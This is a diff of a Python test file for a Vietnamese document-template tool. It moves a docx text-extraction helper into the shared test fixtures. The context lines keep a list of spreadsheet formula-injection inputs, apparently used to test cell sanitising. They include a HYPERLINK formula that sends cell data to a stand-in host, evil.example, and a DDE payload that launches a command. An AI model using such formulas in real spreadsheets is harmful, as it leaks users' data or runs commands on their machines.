@@ -28,7 +28,7 @@ from doctpl.render import render, render_data
 from doctpl.store import numbering, records
 from doctpl.store.models import PhienBan, SoDi, VanBan
 from doctpl.xlsx import safe_cell
-from tests.conftest import csrf_token, example, signed_in
+from tests.conftest import csrf_token, docx_text, example, signed_in
 from tests.stores import store  # noqa: F401  (fixture)
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -42,14 +42,6 @@ def _refused(call, field: str) -> str:
     messages = [e.message for e in caught.value.errors() if e.field == field]
     assert messages, caught.value.errors()
     return messages[0]
-
-
-def _text(content: bytes) -> str:
-    document = docx.Document(io.BytesIO(content))
-    found = [p.text for p in document.paragraphs]
-    for table in document.tables:
-        found += [p.text for row in table.rows for cell in row.cells for p in cell.paragraphs]
-    return "\n".join(found)
 
 
 def _plan(so: int | None = None, year: int = 2021) -> dict:
@@ -80,7 +72,7 @@ def test_a_document_before_the_decree_takes_the_abbreviations_of_thong_tu_01_201
     for name in ("han_bao_cao_6_thang", "han_bao_cao_nam"):
         if name in data:
             data[name] = data[name] and f"2019{data[name][4:]}"
-    text = _text(render(kind_id, data).content)
+    text = docx_text(render(kind_id, data).content)
     abbreviation = facts.abbreviation(get_kind(kind_id).ten_loai, dt.date(2021, 1, 1))
     assert re.search(rf"Số: (\d{{2,}}|\s{{5}})/{abbreviation}-", text), text[:400]
 
@@ -133,7 +125,7 @@ def test_control_characters_and_lone_surrogates_are_cleaned_from_text():
     data["co_quan"]["ten"] = "Khối thi đua\x00 số 1\ud800\x1f"
     checked = get_kind("ke_hoach").validate(data)
     assert checked["co_quan"]["ten"] == "Khối thi đua số 1"
-    assert "KHỐI THI ĐUA SỐ 1" in _text(render_data(get_kind("ke_hoach"), checked).content)
+    assert "KHỐI THI ĐUA SỐ 1" in docx_text(render_data(get_kind("ke_hoach"), checked).content)
 
 
 # Saving: never a record that cannot render; a typed Số enters the register; no lost update.
